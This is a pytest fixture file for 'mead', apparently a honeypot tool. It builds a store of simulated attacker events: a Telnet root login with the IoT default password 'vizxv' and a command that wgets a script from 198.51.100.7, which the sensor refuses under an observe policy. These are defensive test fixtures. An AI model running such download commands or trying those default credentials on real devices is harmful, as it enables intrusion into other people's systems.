# SPDX-License-Identifier: Apache-2.0
"""A small store with known events, and the command to ask it with."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from mead.cli.main import cli
from mead.deck.layout import Layout
from mead.model import event
from mead.model.event import Event
from mead.store.bodies import BodyStore
from mead.store.catalogue import Catalogue
from mead.store.events import EventStore

BEGAN = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
BODY = b"benign marker body\n"
DIGEST = hashlib.sha256(BODY).hexdigest()
RECORDING = b'{"version": 2, "width": 80, "height": 24}\n[0.1, "o", "login: "]\n'
TELNET = "aaaaaaaaaaaaaaaaaaaa"
HTTP = "bbbbbbbbbbbbbbbbbbbb"
COMMAND = "cd /tmp; wget http://198.51.100.7/a.sh; echo \x1b[31mred"


@dataclass(frozen=True)
class Store:
    """A data directory, and `mead` with a configuration that names it."""

    directory: Path
    configuration: Path
    telnet: str = TELNET
    http: str = HTTP
    digest: str = DIGEST
    body: bytes = BODY
    recording: bytes = RECORDING
    command: str = COMMAND

    def mead(self, *arguments: object, given: str | None = None) -> Result:
        return CliRunner().invoke(cli, ["-c", str(self.configuration), *map(str, arguments)], input=given)

    def rows(self, *arguments: object) -> list[dict[str, Any]]:
        """The JSON lines that a command prints when it succeeds."""
        result = self.mead(*arguments, "-o", "jsonl")
        assert result.exit_code == 0, result.output
        return [json.loads(line) for line in result.stdout.splitlines()]


MakeStore = Callable[..., Store]


def _at(seconds: float) -> datetime:
    return BEGAN + timedelta(seconds=seconds)


def _session(session: str, service: str, port: int, src: str) -> dict[str, Any]:
    return {
        "sensor": "s1", "session": session, "src": src, "src_port": 40000, "dst": "192.0.2.1",
        "dst_port": port, "transport": "tcp", "service": service,
    }  # fmt: skip


def events() -> list[Event]:
    """One Telnet session that gets far, one HTTP request that does not, and what a worker said."""
    telnet, http = _session(TELNET, "telnet", 23, "203.0.113.5"), _session(HTTP, "http", 80, "2001:db8::5")
    offer = {"offer": f"{TELNET}-1", "url": "http://198.51.100.7/a.sh"}
    transcript = hashlib.sha256(RECORDING).hexdigest()
    made = {"sensor": "worker-1", "sha256": DIGEST, "jail_level": "rlimits", "engine_version": "1"}
    return [
        event.SessionOpen(time=_at(0), **telnet),
        event.LoginAttempt(
            time=_at(1), **telnet, username="root", password="vizxv", method="password", success=True
        ),
        event.CommandInput(time=_at(2), **telnet, command=COMMAND, exit_status=0),
        event.OfferSeen(time=_at(2), **telnet, **offer, tool="wget"),
        event.FetchRefused(time=_at(2), **telnet, **offer, reason="policy is observe", policy="observe"),
        event.SampleCaptured(time=_at(3), **telnet, sha256=DIGEST, size=len(BODY), how="echo", name="=x"),
        event.SessionClose(
            time=_at(4), **telnet, reason="logout", duration_ms=4000, bytes_in=90, bytes_out=9,
            transcript=transcript,
        ),
        event.SessionOpen(time=_at(3600), **http),
        event.RequestReceived(
            time=_at(3600), **http, method="GET", target="/", headers=[("Host", "x")], status=200
        ),
        event.SessionClose(time=_at(3601), **http, reason="end", duration_ms=1000),
        event.FindingMade(
            time=_at(5), **made, analyser="clamav", claim="malware", value="Test.Marker", rule="Test.Marker"
        ),
        event.FindingMade(time=_at(5), **made, analyser="filetype", claim="type", value="text"),
        event.AnalysisDone(time=_at(6), **made, analyser="clamav", verdict="found"),
        event.IndicatorSeen(
            time=_at(6), sensor="worker-1", sha256=DIGEST, analyser="strings", indicator="evil.example",
            indicator_kind="domain",
        ),
    ]  # fmt: skip


def fill(directory: Path, happened: list[Event]) -> None:
    """Put events and the bodies that they name into the stores, as a hub would."""
    layout = Layout(directory)
    layout.make()
    bodies = BodyStore(layout.bodies)
    bodies.put(BODY)
    bodies.put(RECORDING)
    with EventStore.open(layout.events) as store:
        if happened:
            store.append("EVENTS_s1", 1, happened)
            store.commit()
    with Catalogue.open(layout.catalogue) as catalogue:
        catalogue.apply([("EVENTS_s1", 1, index, one) for index, one in enumerate(happened)])


def _made(directory: Path, happened: list[Event] | None) -> Store:
    configuration = directory / "mead.toml"
    configuration.write_text(f'data_dir = "{directory}/data"\n')
    if happened is not None:
        fill(directory / "data", happened)
    return Store(directory / "data", configuration)


@pytest.fixture(scope="session")
def store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    """A store that nobody changes."""
    return _made(tmp_path_factory.mktemp("store"), events())


@pytest.fixture
def empty(tmp_path: Path) -> Store:
    """A store in which nothing is."""
    return _made(tmp_path, [])


@pytest.fixture
def nowhere(tmp_path: Path) -> Store:
    """A configuration of a data directory that is not there yet."""
    return _made(tmp_path, None)


@pytest.fixture
def cli_events() -> list[Event]:
    """What happened in the store that nobody changes."""
    return events()


@pytest.fixture
def mead() -> Callable[..., Result]:
    """`mead` without a configuration of ours; `given` is its standard input."""

    def run(*arguments: object, given: str | bytes | None = None) -> Result:
        return CliRunner().invoke(cli, [*map(str, arguments)], input=given)

    return run
